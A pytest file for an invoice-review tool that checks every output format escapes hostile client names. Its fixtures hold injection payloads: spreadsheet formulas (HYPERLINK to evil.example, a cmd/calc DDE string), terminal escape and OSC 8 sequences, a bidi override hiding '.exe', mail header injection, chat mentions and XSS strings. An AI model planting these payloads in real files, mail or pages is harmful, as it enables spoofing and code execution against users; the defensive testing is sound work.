"""Every output escapes what it prints (docs/security.md, "What the data may not do").

A client's name, an id or an invoice number is the data's: a source can hand over a formula
(``=HYPERLINK(...)``), a terminal's control sequence (ESC ``\\x1b[2J``, an OSC 8 link), a
bidirectional override (U+202E) that reorders a line, a NUL, a line break that writes a line
of its own, or ten thousand characters. Each output clientguard writes is fed these through
its real code path (the review and its renderers, the claim, the saved reviews of the store
read by ``clientguard history`` and ``changes``, ``clientguard rejections`` on a store the CSV
connector filled, notify's e-mail and webhook body) and the row says what it must show.

The expected forms are worked out by hand from the rules of docs/security.md:

* a CSV text cell is ``printable`` (a control character, a bidirectional control or an
  invisible format character as its escape ``\\x1b``, ``\\u202e``; tab and line feed kept),
  then neutralised: an apostrophe before ``= + - @`` (after white space, quotes and
  invisible characters) and before a leading control character; a plain number (``-12.50``)
  is left a number;
* a JSON text writes those characters as JSON's own escapes (``\\u001b``, ``\\u009b``,
  ``\\u202e``, ``\\u007f``), so the raw text holds none of them and a JSON reader reads the
  name back exactly;
* a terminal line shows them as escapes, and a line break in the data is a space;
* a chat (Slack, Teams) or an e-mail gets the same escapes; ``< > &`` are entities in a chat.

Rows marked ``(regression)`` were already right before this file; every other row failed
before the change that came with it (checked: the CSV and JSON rows wrote the raw control
characters, the changes and rejections wrote a line of their own for a line break in a name
or an invoice number, the history table cut a long name with no ellipsis, notify's e-mail and
chat text carried ESC and U+202E as they were).
"""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import date
from decimal import Decimal
from email import message_from_string
from pathlib import Path
from typing import Any

import pytest

from clientguard import history
from clientguard.changes import compare, summarize
from clientguard.claims import claim
from clientguard.cli import EXIT_OK, main
from clientguard.history import HistoryRow, history_csv
from clientguard.i18n import using
from clientguard.notify import EmailChannel, email_message, webhook_body
from clientguard.policy import Policy
from clientguard.report import render
from clientguard.report.claim import render_claim
from clientguard.report.spreadsheet import render_csv
from clientguard.review import Review, review
from clientguard.store import Store
from clientguard.testing import customer, invoice, ledger, payment

#: The characters no output may write as they are (docs/security.md, "the terminal"): C0
#: controls but tab and line feed, DEL, C1, the bidi controls, the separators U+2028/9,
#: zero-width and other invisible format characters, the tag characters.
RAW = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200b\u200e\u200f\u2028-\u202e"
    "\u2060-\u2064\u2066-\u206f\ufeff\ufff9-\ufffb\U000e0000-\U000e007f]"
)

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Acme")'
OSC8 = "\x1b]8;;http://evil.example\x1b\\click\x1b]8;;\x1b\\"
CLEAR = "\x1b[2J\x1b[31mRED"
RLO = "Acme \u202eFDP.exe\u202c"
POLISH = "Żółć Gęślą Jaźń Sp. z o.o."
FAKE_LINE = "Acme\n- Birch: verdict ok -> consider ending"
LONG = "Ł" * 10_000

DAY1, DAY2 = date(2025, 5, 31), date(2025, 8, 31)


def records(name: str, number: str = "A-7") -> list[Any]:
    """Client ``c1``, named ``name``, pays later and later from April 2025 (so that a finding,
    a verdict change and a newly overdue invoice name it); ``c2``, Birch, pays on time."""
    found: list[Any] = [customer("c1", name=name), customer("c2", name="Birch")]
    for month, late in [(1, 0), (2, 0), (3, 0), (4, 20), (5, 40), (6, 60), (7, 80)]:
        due = date(2025, month, 28)
        a = invoice("c1", issued=date(2025, month, 1), due=due, total="1000.00",
                    id=f"A-{month}", number=number if month == 7 else f"A-{month}")
        b = invoice("c2", issued=date(2025, month, 1), due=due, total="500.00",
                    id=f"B-{month}")
        found += [a, b, payment("c2", on=due, amount="500.00", pays=b, id=f"PB-{month}")]
        if month < 7:
            found.append(payment("c1", on=date.fromordinal(due.toordinal() + late),
                                 amount="1000.00", pays=a, id=f"PA-{month}"))
    return found


def review_of(name: str, as_of: date = DAY2, number: str = "A-7") -> Review:
    return review(ledger(*records(name, number)), as_of=as_of)


def saved_store(tmp_path: Path, name: str) -> Path:
    """A store holding the reviews of May and August 2025 of the book of :func:`records`."""
    path = tmp_path / "clientguard.db"
    with Store.open(path) as store:
        for day in (DAY1, DAY2):
            history.save_review(store, review_of(name, day))
    return path


def run(capsys: pytest.CaptureFixture[str], *argv: str) -> str:
    assert main(list(argv)) == EXIT_OK
    out, _err = capsys.readouterr()
    return out


# ----------------------------------------------------------------------------- CSV

#: (hostile cell, the cell as every CSV writes it). Worked out by hand from the rule above.
CSV_CELLS = [
    pytest.param(HYPERLINK, "'" + HYPERLINK, id="hyperlink (regression)"),
    pytest.param("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0", id="plus (regression)"),
    pytest.param("-2+3", "'-2+3", id="minus (regression)"),
    pytest.param("@SUM(A1:A2)", "'@SUM(A1:A2)", id="at (regression)"),
    # A control first: an apostrophe; a tab is a separator, so one after it too.
    pytest.param("\t=1+1", "'\t'=1+1", id="tab-formula (regression)"),
    pytest.param("Acme;=1+1", "Acme;'=1+1", id="semicolon-formula (regression)"),
    # A carriage return is shown as its escape: the cell then starts with a backslash, text.
    pytest.param("\r=1+1", "\\x0d=1+1", id="cr-formula"),
    pytest.param(OSC8, "\\x1b]8;;http://evil.example\\x1b\\click\\x1b]8;;\\x1b\\", id="osc8"),
    pytest.param(CLEAR, "\\x1b[2J\\x1b[31mRED", id="csi"),
    # A C1 control first: its escape starts with a backslash, and nothing runs.
    pytest.param("\x9b2J=1", "\\x9b2J=1", id="c1-csi"),
    pytest.param(RLO, "Acme \\u202eFDP.exe\\u202c", id="bidi-override"),
    pytest.param("Ac\x00me", "Ac\\x00me", id="nul"),
    # Escaped first: the cell starts with a backslash, text, and shows what was hidden.
    pytest.param("\u200b=1+1", "\\u200b=1+1", id="zero-width-then-formula"),
    pytest.param("<script>alert(1)</script>", "<script>alert(1)</script>",
                 id="html-is-text-in-a-csv (regression)"),
    pytest.param(POLISH, POLISH, id="polish-intact (regression)"),
    pytest.param("-", "'-", id="a-lone-dash (regression)"),
    pytest.param("+48 600 100 200", "'+48 600 100 200", id="phone-like (regression)"),
]


def review_csv_cell(name: str, dialect: str) -> str:
    with using("en"):
        text = render_csv(review_of(name), dialect=dialect)
    if dialect == "excel":
        text = text.removeprefix("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    cells = {row["client_name"] for row in rows if row["client_id"] == "c1"}
    assert len(cells) == 1, cells
    return cells.pop()


#: The CSV for Excel showed the controls as escapes already: its rows are all regressions.
REVIEW_CSV_CELLS = [
    pytest.param(dialect, *cell.values, id=f"{dialect}-{cell.id}" + (
        " (regression)" if dialect == "excel" and "regression" not in str(cell.id) else ""))
    for dialect in ("rfc4180", "excel") for cell in CSV_CELLS
]


@pytest.mark.parametrize(("dialect", "hostile", "expected"), REVIEW_CSV_CELLS)
def test_the_review_csv_writes_each_name_cell_safe(
    dialect: str, hostile: str, expected: str
) -> None:
    assert review_csv_cell(hostile, dialect) == expected


@pytest.mark.parametrize(("hostile", "expected"), CSV_CELLS)
def test_the_history_csv_writes_each_name_cell_safe(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], hostile: str, expected: str
) -> None:
    store = saved_store(tmp_path, hostile)
    text = run(capsys, "--lang", "en", "history", "--store", str(store), "--format", "csv")
    assert RAW.search(text) is None
    rows = [row for row in csv.DictReader(io.StringIO(text)) if row["client_id"] == "c1"]
    assert [row["name"] for row in rows] == [expected, expected]  # May and August


@pytest.mark.parametrize("fmt", ["rfc4180", pytest.param("excel", id="excel (regression)")])
def test_a_review_csv_holds_no_raw_control_of_any_name(fmt: str) -> None:
    with using("en"):
        text = render_csv(review_of(CLEAR + RLO + "\x00\x9b\U000e0041"), dialect=fmt)
    # Apart from the file's own: the Excel file's byte-order mark and the CRLF line ends.
    assert RAW.search(text.removeprefix("\ufeff").replace("\r\n", "\n")) is None


def test_the_history_csv_writes_its_numbers_as_numbers() -> None:
    """A negative amount stays a number (``-12.50``: a plain number is never neutralised), a
    tiny share is written in full rather than in exponent form, and the text cells beside
    them are neutralised."""
    row = HistoryRow(as_of=date(2025, 5, 31), policy_digest="dd205794ca1f8fd4", client_id="-",
                     name="+48 600 100 200", verdict="ok", severity=None,
                     late_share=Decimal("0"), weighted_days_late=Decimal("-3.5"),
                     overdue=Decimal("-12.50"), revenue_share=Decimal("1E-7"), findings=0)
    with using("en"):
        rows = list(csv.DictReader(io.StringIO(history_csv([row]))))
    assert rows == [{
        "as_of": "2025-05-31", "client_id": "'-", "name": "'+48 600 100 200",
        "verdict": "ok", "severity": "", "late_share": "0", "weighted_days_late": "-3.5",
        "overdue": "-12.50", "revenue_share": "0.0000001", "findings": "0",
        "policy_digest": "dd205794ca1f8fd4",
    }]


# ----------------------------------------------------------------------------- JSON

#: (hostile name, JSON's escape of its control that the raw text must hold). json.dumps with
#: ensure_ascii=False escapes the C0 controls itself (``\u001b``) but writes C1, DEL and the
#: bidi and format characters as they are.
JSON_NAMES = [
    pytest.param("A\x9b2JB", "A\\u009b2JB", id="c1-csi"),
    pytest.param("Ac\x7fme", "Ac\\u007fme", id="del"),
    pytest.param(RLO, "Acme \\u202eFDP.exe\\u202c", id="bidi-override"),
    pytest.param("Ac\u2028me", "Ac\\u2028me", id="line-separator"),
    pytest.param("Acme\U000e0041", "Acme\\udb40\\udc41", id="tag-character"),
    pytest.param(CLEAR, "\\u001b[2J\\u001b[31mRED", id="csi (regression)"),
    pytest.param(POLISH, POLISH, id="polish-intact (regression)"),
]


def claim_json(name: str) -> tuple[str, str]:
    book = ledger(customer("c1", name), invoice("c1", issued="2026-01-02", terms=30,
                                                total="500.00", id="c1-1"))
    text = render_claim(claim(book, "c1", as_of=date(2026, 6, 30),
                              policy=Policy(jurisdiction="pl")), "json", lang="en")
    return text, json.loads(text)["debtor"]["name"]


def review_json(name: str) -> tuple[str, str]:
    with using("en"):
        text = render(review_of(name), "json")
    return text, next(c["name"] for c in json.loads(text)["clients"] if c["client_id"] == "c1")


@pytest.mark.parametrize(("hostile", "escaped"), JSON_NAMES)
@pytest.mark.parametrize("output", [review_json, claim_json], ids=["review", "claim"])
def test_a_json_report_escapes_controls_and_reads_back_exactly(
    output: Any, hostile: str, escaped: str
) -> None:
    text, read_back = output(hostile)
    assert RAW.search(text) is None
    assert escaped in text
    assert read_back == hostile  # JSON's escapes lose nothing


@pytest.mark.parametrize(("hostile", "escaped"), JSON_NAMES)
@pytest.mark.parametrize("command", ["history", "changes"])
def test_the_history_and_changes_json_escape_controls_and_read_back_exactly(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], command: str, hostile: str,
    escaped: str,
) -> None:
    store = saved_store(tmp_path, hostile)
    text = run(capsys, "--lang", "en", command, "--store", str(store), "--format", "json")
    assert RAW.search(text) is None
    assert escaped in text
    document = json.loads(text)
    items = document if command == "history" else document["changes"]
    assert {item["name"] for item in items if item["client_id"] == "c1"} == {hostile}


# ----------------------------------------------------------------------------- terminal


@pytest.mark.parametrize(
    ("hostile", "shown"),
    [
        # A line break in a name is a space: no line reads as a change of another client.
        pytest.param(FAKE_LINE, "Acme - Birch: verdict ok -> consider ending", id="line-break"),
        pytest.param("Acme\r\nBirch", "Acme Birch", id="crlf"),
        pytest.param(CLEAR, "\\x1b[2J\\x1b[31mRED", id="csi (regression)"),
        pytest.param(RLO, "Acme \\u202eFDP.exe\\u202c", id="bidi-override (regression)"),
        pytest.param(POLISH, POLISH, id="polish-intact (regression)"),
    ],
)
def test_the_changes_table_writes_one_line_per_change_with_controls_escaped(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], hostile: str, shown: str
) -> None:
    store = saved_store(tmp_path, hostile)
    text = run(capsys, "--lang", "en", "changes", "--store", str(store))
    assert RAW.search(text) is None
    lines = text.splitlines()
    # Every change is one line starting "- "; the ones about c1 start with its name as shown.
    assert all(line.startswith("- ") for line in lines[1:]), lines
    assert not any(line.startswith("- Birch: verdict ok") for line in lines)
    assert any(line.startswith(f"- {shown}: ") for line in lines), lines


@pytest.mark.parametrize(
    ("hostile", "cell"),
    [
        # 10,000 characters: cut to 32 columns, the last an ellipsis (31 letters + "…").
        pytest.param(LONG, "Ł" * 31 + "…", id="ten-thousand-characters"),
        # On one line (the break a space), its first 31 characters and the ellipsis.
        pytest.param(FAKE_LINE, "Acme - Birch: verdict ok -> con…", id="line-break"),
        # Wide characters take two columns: 15 of them and the ellipsis fill 31 columns.
        pytest.param("株" * 40, "株" * 15 + "…", id="wide-characters"),
    ],
)
def test_the_history_table_cuts_a_name_to_its_column_on_one_line(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], hostile: str, cell: str
) -> None:
    store = saved_store(tmp_path, hostile)
    text = run(capsys, "--lang", "en", "history", "--store", str(store), "--client", "c1")
    lines = text.splitlines()
    assert len(lines) == 3  # the heading and the two saved reviews: no line of the name's
    for line in lines[1:]:
        assert line.startswith(f"{line[:10]}  {cell}")


def csv_store(tmp_path: Path, capsys: pytest.CaptureFixture[str],
              monkeypatch: pytest.MonkeyPatch) -> None:
    """A store the CSV connector filled from a file whose invoice numbers and cells hold a
    line break, ESC and U+202E: both rows are rejected, their reasons quoting the cells."""
    pytest.importorskip("clientguard_csv", reason="the CSV connector is not installed")
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("CLIENTGUARD_CONFIG", raising=False)
    (tmp_path / "mapping.toml").write_text(
        'currency = "EUR"\ndate_formats = ["iso"]\n\n[invoices.columns]\nnumber = "Number"\n'
        'customer_name = "Client"\nissue_date = "Issued"\ndue_date = "Due"\ntotal = "Total"\n')
    (tmp_path / "invoices.csv").write_text(
        "Number,Client,Issued,Due,Total\n"
        '"N-1\n- N-9 (books): fine","Acme",2025-01-02,2025-02-01,"12\u202e"\n'
        '"N-2\x1b[2J",Birch,2025-01-02,notadate,100.00\n', encoding="utf-8")
    (tmp_path / "clientguard.toml").write_text(
        'base_currency = "EUR"\n\n[sources.books]\nconnector = "csv"\n'
        'mapping = "mapping.toml"\ninvoices = ["invoices.csv"]\n')
    run(capsys, "sync", "--quiet")


def test_rejections_write_one_line_per_rejection_with_controls_escaped(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    csv_store(tmp_path, capsys, monkeypatch)
    text = run(capsys, "--lang", "en", "rejections")
    assert RAW.search(text) is None
    lines = text.splitlines()
    # The invoice number's line break is a space; the forged line is no line of its own.
    assert not any(line.startswith("- N-9") for line in lines), lines
    assert lines[0].startswith("invoice N-1 - N-9 (books): fine (books, invoices.csv, line 2")
    assert "\\u202e" in lines[0]
    assert lines[1].startswith("invoice N-2\\x1b[2J (books, invoices.csv, line 4")


# ----------------------------------------------------------------------------- notify

CHANNEL = EmailChannel(host="localhost", port=25, sender="clientguard@example.com",
                       recipients=("owner@example.com",), security="none")


def changes_of(name: str) -> Any:
    before, after = (review_of(name, day) for day in (DAY1, DAY2))
    return compare(summarize(before), summarize(after))


@pytest.mark.parametrize(
    ("hostile", "shown"),
    [
        pytest.param(CLEAR, "\\x1b[2J\\x1b[31mRED", id="csi"),
        pytest.param(OSC8, "\\x1b]8;;http://evil.example\\x1b\\click\\x1b]8;;\\x1b\\",
                     id="osc8"),
        pytest.param(RLO, "Acme \\u202eFDP.exe\\u202c", id="bidi-override"),
        pytest.param("Ac\x00me", "Ac\\x00me", id="nul"),
        pytest.param("A\x9b2JB", "A\\x9b2JB", id="c1-csi"),
        pytest.param(FAKE_LINE, "Acme - Birch: verdict ok -> consider ending",
                     id="line-break (regression)"),
        pytest.param(POLISH, POLISH, id="polish-intact (regression)"),
    ],
)
def test_notify_mail_and_chat_show_controls_as_escapes(hostile: str, shown: str) -> None:
    changes = changes_of(hostile)
    mail = message_from_string(email_message(changes, CHANNEL).as_string())
    payload = mail.get_payload(decode=True)  # what the mail reader shows
    assert isinstance(payload, bytes)
    body = payload.decode("utf-8")
    chat = webhook_body(changes)["text"]
    # The chat writes "<", ">" and "&" as entities ("->" of a message too).
    for text, name in ((body, shown), (chat, shown.replace(">", "&gt;"))):
        assert RAW.search(text) is None
        assert f"- {name}: " in text
        assert not any(line.startswith("- Birch: verdict ok") for line in text.splitlines())


@pytest.mark.parametrize(
    "hostile",
    [
        pytest.param("Acme\r\nBcc: victim@example.com", id="crlf-header (regression)"),
        pytest.param("Acme\nSubject: pay now", id="lf-header (regression)"),
    ],
)
def test_a_name_never_writes_a_mail_header(hostile: str) -> None:
    """The subject holds counts and dates, never a name; a name's line break is a space in
    the body: the message has exactly the headers clientguard set."""
    mail = message_from_string(email_message(changes_of(hostile), CHANNEL).as_string())
    assert mail["Bcc"] is None
    assert mail["Subject"] == "clientguard: 6 changes since 2025-05-31 (review as of 2025-08-31)"


@pytest.mark.parametrize(
    ("hostile", "shown"),
    [
        pytest.param("<!channel>", "&lt;!channel&gt;", id="channel-mention (regression)"),
        pytest.param("<@U123>", "&lt;@U123&gt;", id="user-mention (regression)"),
        pytest.param("<http://evil.example|click>", "&lt;http://evil.example|click&gt;",
                     id="slack-link (regression)"),
        pytest.param("\u202e<!here>", "\\u202e&lt;!here&gt;", id="bidi-and-mention"),
    ],
)
def test_a_name_pings_nobody_and_links_nowhere_in_a_chat(hostile: str, shown: str) -> None:
    chat = webhook_body(changes_of(hostile))["text"]
    assert f"- {shown}: " in chat
    assert "<" not in chat
    assert ">" not in chat


# ----------------------------------------------------------------------------- HTML


def review_html(name: str) -> str:
    with using("en"):
        return render(review_of(name), "html")


def claim_html(name: str) -> str:
    book = ledger(customer("c1", name), invoice("c1", issued="2026-01-02", terms=30,
                                                total="500.00", id="c1-1", number=name))
    return render_claim(claim(book, "c1", as_of=date(2026, 6, 30),
                              policy=Policy(jurisdiction="pl")), "html", lang="en")


HTML_NAMES = [
    pytest.param("<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;",
                 id="script (regression)"),
    pytest.param('"><img src=x onerror=alert(1)>',
                 "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;", id="attribute (regression)"),
    pytest.param(OSC8, "\\x1b]8;;http://evil.example\\x1b\\click\\x1b]8;;\\x1b\\",
                 id="osc8 (regression)"),
    pytest.param(RLO, "Acme \\u202eFDP.exe\\u202c", id="bidi-override (regression)"),
]


@pytest.mark.parametrize(
    ("output", "hostile", "shown"),
    [
        *(pytest.param(output, *row.values, id=f"{output.__name__}-{row.id}")
          for output in (review_html, claim_html) for row in HTML_NAMES),
        # The review cuts a name at TEXT_LIMIT: 999 characters and an ellipsis.
        pytest.param(review_html, LONG, "Ł" * 999 + "…",
                     id="review_html-ten-thousand-characters (regression)"),
        # The claim letter never cuts a name (report.claim._text): a debtor is named whole.
        pytest.param(claim_html, LONG, LONG, id="claim_html-ten-thousand-characters (regression)"),
    ],
)
def test_an_html_page_escapes_each_name(output: Any, hostile: str, shown: str) -> None:
    page = output(hostile)
    assert RAW.search(page) is None
    assert shown in page
    assert "<script>alert" not in page
    assert "<img" not in page
